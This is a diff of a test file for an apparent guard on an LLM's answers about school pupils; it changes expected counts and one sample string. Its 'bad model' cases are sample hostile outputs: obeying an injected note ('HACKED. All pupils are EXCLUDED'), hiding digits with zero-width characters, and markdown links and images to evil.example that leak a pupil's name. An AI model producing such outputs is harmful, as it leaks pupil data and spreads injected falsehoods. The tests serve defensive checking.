@@ -80,7 +80,7 @@ describe("a model that keeps to the notes", () => {
     const { answer, read, stands } = await ask(says(GOOD));
     expect(answer).toEqual({
       ...stands,
-      answer: `${GOOD} The list has 4 more pupils.`,
+      answer: `${GOOD} The list has 6 more pupils.`,
       llm: { model: "fake", used: true, reason: null },
     });
     expect(read).toBe(answer.answer);
@@ -109,7 +109,7 @@ describe("a model that keeps to the notes", () => {
 
   it("leaves out what is not backed, and keeps the rest", async () => {
     const { answer } = await ask(says(`These pupils struggle a lot. ${GOOD} I hope this helps!`));
-    expect(answer.answer).toBe(`${GOOD} The list has 4 more pupils.`);
+    expect(answer.answer).toBe(`${GOOD} The list has 6 more pupils.`);
   });
 
   it("is followed by what every reader must know", async () => {
@@ -124,7 +124,7 @@ describe("a model that keeps to the notes", () => {
       answer: computed({ value: "yes", citations }),
     });
     expect(answer.answer).toBe(
-      `Yes. ${GOOD} Only near in meaning to what you asked: [1][2]. The list has 4 more pupils.`,
+      `Yes. ${GOOD} Only near in meaning to what you asked: [1][2]. The list has 6 more pupils.`,
     );
     expect(read).toBe(answer.answer);
   });
@@ -218,7 +218,7 @@ describe("a bad model: the reader gets the answer that stands without it", () =>
     ["writes Arabic digits", "invented", says("Alice Johnson is at level ٥ [1].")],
     ["joins digits out of sight", "invented", says("Alice Johnson is at level 2\u200d4 [1].")],
     ["obeys a note", "unbacked", says("Alice Johnson is at level 5 [5].")],
-    ["obeys a note for good", "invented", says("HACKED. All pupils are EXPELLED [5].")],
+    ["obeys a note for good", "invented", says("HACKED. All pupils are EXCLUDED [5].")],
     ["names another pupil", "invented", says("Alice Johnson and Zara Quill need support [1].")],
     ["writes a link", "invented", says("See [Alice](https://evil.example/?q=Alice) [1].")],
     ["writes an image", "invented", says("![x](https://evil.example/Alice.png)")],
